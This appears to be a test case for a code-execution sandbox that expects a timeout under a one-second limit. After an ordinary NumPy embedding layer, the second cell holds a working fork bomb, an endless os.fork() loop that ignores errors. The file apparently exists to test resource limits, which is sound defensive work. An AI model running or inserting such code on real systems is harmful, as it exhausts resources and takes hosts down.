# case: 14
# score: 10
# limits: cell_seconds=1
# statuses: timeout
# A process that forks for ever, as do its children.
# %% embedding
import numpy as np


class Embedding:
    def __init__(self, W):
        self.params = [W]
        self.grads = [np.zeros_like(W)]

    def forward(self, idx):
        self.idx = idx
        return self.params[0][idx]

    def backward(self, dout):
        self.grads[0][...] = 0
        np.add.at(self.grads[0], self.idx, dout)

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
